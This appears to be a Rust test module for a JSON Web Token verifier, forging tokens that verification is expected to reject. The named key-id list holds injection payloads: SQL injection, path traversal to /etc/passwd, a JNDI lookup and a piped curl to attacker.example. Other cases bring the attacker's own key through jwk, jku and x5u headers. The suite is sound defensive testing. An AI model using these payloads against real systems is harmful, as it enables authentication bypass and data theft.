//! Keys that the attacker brings, or has the verifier find.

use serde_json::{Value, json};
use shell_jose::VerifyError;

use super::{Attack, Forge, MALFORMED, Reason, encode, family, parts};

pub(super) fn list(forge: &Forge<'_>) -> Vec<Attack> {
    let mut attacks = named(forge);
    attacks.extend(family(&MALFORMED, misnamed(forge)));
    attacks.extend(family(&VerifyError::Signature, brought(forge)));
    attacks.extend(family(&VerifyError::Signature, signatures(forge)));
    let unnamed = forge.forged(&json!({ "alg": "RS256" }));
    attacks.extend(family(&VerifyError::Signature, [("no kid", unnamed)]));
    attacks
}

/// Names that would mean something to a database, a file system, a shell or a
/// client of some protocol.
fn named(forge: &Forge<'_>) -> Vec<Attack> {
    let own = forge.key.kid();
    let names = [
        String::new(),
        "*".to_owned(),
        "x' UNION SELECT 'secret' -- ".to_owned(),
        "' OR '1'='1".to_owned(),
        "../../../../dev/null".to_owned(),
        "..\\..\\windows\\win.ini".to_owned(),
        "/proc/self/environ".to_owned(),
        "%2e%2e%2fdev%2fnull".to_owned(),
        "https://attacker.example/keys.json".to_owned(),
        "file:///etc/passwd".to_owned(),
        "ldap://attacker.example/x".to_owned(),
        "${jndi:ldap://attacker.example/x}".to_owned(),
        "| curl attacker.example".to_owned(),
        "a\0b".to_owned(),
        "a\r\nX-Injected: 1".to_owned(),
        "\u{1b}[2J".to_owned(),
        "k".repeat(8_000),
        format!("{own}\0"),
        format!("{own}\n"),
        format!("{own}/"),
        format!(" {own}"),
        own.to_ascii_uppercase(),
        own.replace('+', " "),
    ];
    let names = names.into_iter().filter(|name| name != own);
    let attack = |kid: String| {
        let mut header = forge.header();
        header["kid"] = kid.as_str().into();
        Attack {
            name: format!(
                "kid {}",
                kid.chars().take(40).collect::<String>().escape_debug()
            ),
            token: forge.forged(&header),
            reason: Reason::Token(VerifyError::UnknownKey { kid: Some(kid) }),
        }
    };
    names.map(attack).collect()
}

/// Names that are none.
fn misnamed(forge: &Forge<'_>) -> Vec<(String, String)> {
    let own = forge.key.kid();
    let kids = [
        json!([]),
        json!([own]),
        json!({ "kid": own }),
        json!(0),
        json!(-1),
        json!(true),
        Value::Null,
    ];
    let tokens = kids.map(|kid| (format!("kid {kid}"), forge.heading("kid", kid)));
    tokens.into()
}

/// The attacker's own key, in every header that can carry or locate one.
fn brought(forge: &Forge<'_>) -> Vec<(&'static str, String)> {
    let jwk = forge.impostor.public_jwk();
    let url = json!("https://attacker.example/keys.json");
    let forged = |names: &[(&str, &Value)]| {
        let mut header = forge.header();
        for (name, value) in names {
            header[name] = (*value).clone();
        }
        forge.forged(&header)
    };
    vec![
        ("the attacker's signature", forged(&[])),
        ("jwk", forged(&[("jwk", &jwk)])),
        ("jku", forged(&[("jku", &url)])),
        (
            "jku of this machine",
            forged(&[("jku", &json!("http://127.0.0.1/keys"))]),
        ),
        (
            "jku of a file",
            forged(&[("jku", &json!("file:///etc/passwd"))]),
        ),
        ("x5u", forged(&[("x5u", &url)])),
        (
            "x5c",
            forged(&[("x5c", &json!([encode("no certificate")]))]),
        ),
        ("x5t", forged(&[("x5t", &json!(encode([7; 20])))])),
        ("x5t#S256", forged(&[("x5t#S256", &json!(encode([7; 32])))])),
        (
            "all of them",
            forged(&[("jwk", &jwk), ("jku", &url), ("x5u", &url)]),
        ),
    ]
}

/// Signatures that are none, or are another token's.
fn signatures(forge: &Forge<'_>) -> Vec<(String, String)> {
    let good = forge.good();
    let [header, payload, signature] = parts(&good);
    let other = forge.claiming("sub", json!("another"));
    let [_, other_payload, other_signature] = parts(&other);
    let changed = encode(json!({ "alg": "RS256", "kid": forge.key.kid(), "x": 1 }).to_string());
    let first = if signature.starts_with('A') { "B" } else { "A" };
    let mut tokens = vec![
        ("no signature".to_owned(), format!("{header}.{payload}.")),
        (
            "another header".to_owned(),
            format!("{changed}.{payload}.{signature}"),
        ),
        (
            "another payload".to_owned(),
            format!("{header}.{other_payload}.{signature}"),
        ),
        (
            "another's signature".to_owned(),
            format!("{header}.{payload}.{other_signature}"),
        ),
        (
            "a changed signature".to_owned(),
            format!("{header}.{payload}.{first}{}", &signature[1..]),
        ),
    ];
    for (name, bytes) in [
        ("zeros", vec![0; 256]),
        ("ones", vec![0xff; 256]),
        ("one", [vec![0; 255], vec![1]].concat()),
        ("a byte too many", vec![7; 257]),
        ("a byte too few", vec![7; 255]),
        ("4 KB", vec![7; 4096]),
    ] {
        let token = format!("{header}.{payload}.{}", encode(bytes));
        tokens.push((format!("a signature of {name}"), token));
    }
    tokens
}
